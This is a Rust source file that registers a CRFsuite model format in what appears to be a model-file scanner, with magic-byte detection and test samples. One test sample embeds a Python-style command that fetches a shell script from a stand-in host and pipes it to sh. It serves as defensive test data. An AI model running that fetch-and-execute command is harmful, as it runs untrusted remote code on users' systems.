//! CRFsuite's models: weights and dictionaries, nothing that runs.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "crfsuite",
    title: "CRFsuite model",
    family: "crfsuite",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"lCRF").then_some(Claim::Magic)
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"lCRF\x10\0\0\0FOMC".to_vec(),
            b"lCRFos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
